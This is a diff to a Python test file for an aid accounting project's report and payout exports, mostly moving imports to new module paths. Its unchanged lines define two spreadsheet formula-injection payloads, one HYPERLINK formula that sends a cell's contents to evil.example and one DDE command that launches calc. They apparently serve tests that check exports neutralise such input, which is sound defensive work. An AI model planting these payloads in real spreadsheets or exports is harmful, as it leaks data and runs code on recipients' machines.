@@ -6,13 +6,12 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from aid_accounting.models import PayoutBatch
-from aid_accounting.payouts import approve_batch, draft_batch, export_bank_csv
-from aid_accounting.report_export import to_csv, to_xlsx
-from aid_accounting.reports import Column, Report
-from aid_accounting.spreadsheet import inert
-
-from .test_payouts import distributed  # noqa: F401 (fixture)
+from aid_accounting.payouts.batches import approve_batch, draft_batch, export_bank_csv
+from aid_accounting.payouts.models import PayoutBatch
+from aid_accounting.transparency.report_export import to_csv, to_xlsx
+from aid_accounting.transparency.reports import Column, Report
+from core.spreadsheet import inert
+from tests.aid_accounting.test_payouts import distributed  # noqa: F401 (fixture)
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 SHORT_HOSTILE = '=cmd|" /c calc"!A1'
